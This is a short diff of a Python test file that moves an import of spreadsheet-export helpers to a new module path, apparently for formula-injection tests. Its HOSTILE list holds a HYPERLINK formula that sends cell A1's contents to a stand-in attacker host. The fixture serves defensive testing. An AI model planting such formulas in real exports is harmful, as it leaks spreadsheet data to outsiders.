@@ -7,7 +7,7 @@ from decimal import Decimal
 import pytest
 from openpyxl import load_workbook
 
-from recruiting.exports import runs_as_formula, to_csv, to_xlsx
+from hrflow.core.spreadsheets import runs_as_formula, to_csv, to_xlsx
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
